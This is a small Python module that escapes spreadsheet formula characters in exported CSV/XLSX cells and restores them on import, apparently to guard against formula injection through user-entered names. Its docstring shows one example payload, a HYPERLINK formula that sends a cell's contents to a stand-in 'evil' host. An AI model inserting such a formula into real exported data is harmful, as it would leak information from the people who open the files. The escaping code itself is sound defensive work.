"""Cells a spreadsheet would run as a formula: made inert on export, restored on import.

Names are stored as typed, so a person called `=HYPERLINK("http://evil/?"&F3,"Xem")`
would become a live formula in the file an organizer opens. Exports put one
single quote before a cell starting with a character that starts a formula
(OWASP's list); imports take exactly that one quote off again, so an export
imports back to the same values ("+84 912 000 111" included). A value that
itself is quotes followed by such a character gets one more quote, so even that
comes back unchanged.
"""
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTES_THEN_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def escape(text: str) -> str:
    """A CSV cell's text: no spreadsheet reads it as a formula."""
    return "'" + text if QUOTES_THEN_FORMULA.match(text) else text


def escape_quote(text: str) -> str:
    """An XLSX cell's text (written as a string): only a leading quote needs one more."""
    return "'" + text if text.startswith("'") and QUOTES_THEN_FORMULA.match(text) else text


def unescape(text: str) -> str:
    return text[1:] if text.startswith("'") and QUOTES_THEN_FORMULA.match(text) else text
